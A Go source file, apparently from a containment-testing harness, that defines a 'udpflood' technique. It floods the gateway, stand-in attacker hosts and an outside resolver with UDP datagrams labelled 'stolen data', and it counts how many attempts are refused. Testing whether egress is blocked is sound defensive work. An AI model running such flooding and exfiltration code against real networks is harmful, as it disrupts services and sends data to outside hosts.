package main

import (
	"net"
	"time"
)

var _ = register(technique{
	Name:   "udpflood",
	What:   "datagrams to the gateway, to the attacker over IPv4 and IPv6, and to a resolver outside, as fast as the kernel takes or refuses them",
	Layers: []string{"network"},
	Signs:  []sign{{What: "work", N: 2000}},
	run: func(s *scene) error {
		gw, err := gateway()
		if err != nil {
			return err
		}
		for _, to := range []string{net.JoinHostPort(gw, "443"), net.JoinHostPort(s.evil, "443"), net.JoinHostPort(s.evil6, "443"), s.dns} {
			go flood(s, to)
		}
		return nil
	},
})

// flood counts attempts: nearly all of them are refused.
func flood(s *scene, to string) {
	for {
		conn, err := net.DialTimeout("udp", to, time.Second)
		if err != nil {
			s.did()
			s.denied()
			time.Sleep(time.Millisecond)
			continue
		}
		for i := 0; i < 500; i++ {
			if _, err := conn.Write([]byte("stolen data")); err != nil {
				s.denied()
			}
			s.did()
			if i%50 == 49 {
				time.Sleep(time.Millisecond) // leave the beacon some of the processor
			}
		}
		conn.Close() // and with another port
	}
}
